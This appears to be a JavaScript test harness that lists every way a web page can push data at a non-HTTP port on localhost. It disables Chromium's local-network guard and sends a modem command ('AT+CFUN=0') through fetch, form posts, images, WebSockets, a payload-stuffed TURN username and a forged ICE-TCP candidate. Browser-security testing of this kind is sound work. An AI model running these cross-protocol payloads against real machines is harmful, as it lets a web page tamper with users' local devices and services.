// What a page can do to a port of the user's computer that speaks no HTTP.

/** An engine's own guard of such ports, switched off: not every browser has one. */
const guards = "LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets";
export const open = [`--disable-features=${guards}`];

/** Everything a page can do to a port that speaks no HTTP; what came of it does not matter here. */
export const attack = async (port, engine) => {
  const body = "\r\nAT+CFUN=0\r\n";
  const soon = (promise) =>
    Promise.race([promise.catch(() => {}), new Promise((done) => setTimeout(done, 1500))]);
  const url = `http://127.0.0.1:${port}/`;
  for (const kind of ["preconnect", "dns-prefetch"]) {
    const link = document.createElement("link");
    link.rel = kind;
    link.href = url;
    document.head.append(link);
  }
  await soon(fetch(url, { method: "POST", mode: "no-cors", body }));
  await soon(fetch(url, { method: "PUT", body }));
  const frame = document.createElement("iframe");
  frame.name = "there";
  const form = document.createElement("form");
  Object.assign(form, { action: url, method: "post", enctype: "text/plain", target: "there" });
  const field = document.createElement("input");
  Object.assign(field, { name: "AT", value: body });
  form.append(field);
  document.body.append(frame, form);
  form.submit();
  const image = new Image();
  image.src = `${url}x.png`;
  const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
  await soon(new Promise((done) => (socket.onclose = done)));
  await soon(fetch(`https://127.0.0.1:${port}/`, { mode: "no-cors" }));
  if (typeof RTCPeerConnection !== "undefined" && engine !== "webkit") {
    const peer = new RTCPeerConnection({
      iceServers: [
        {
          urls: `turn:127.0.0.1:${port}?transport=tcp`,
          username: body.repeat(4),
          credential: "x",
        },
      ],
    });
    peer.createDataChannel("x");
    await soon(peer.createOffer().then((offer) => peer.setLocalDescription(offer)));
    await new Promise((done) => setTimeout(done, 1500));
    peer.close();
    // ICE over TCP (RFC 6544): the far end's candidate is what the page says it is.
    const [near, far] = [new RTCPeerConnection(), new RTCPeerConnection()];
    near.createDataChannel("x");
    const agreed = (async () => {
      await near.setLocalDescription(await near.createOffer());
      await far.setRemoteDescription(near.localDescription);
      const answer = await far.createAnswer();
      await near.setRemoteDescription(answer);
      const place = `127.0.0.1 ${port} typ host tcptype passive`;
      const candidate = `candidate:1 1 tcp 2105458943 ${place}`;
      await near.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
    })();
    await soon(agreed);
    await new Promise((done) => setTimeout(done, 1500));
    near.close();
    far.close();
  }
  return "done";
};
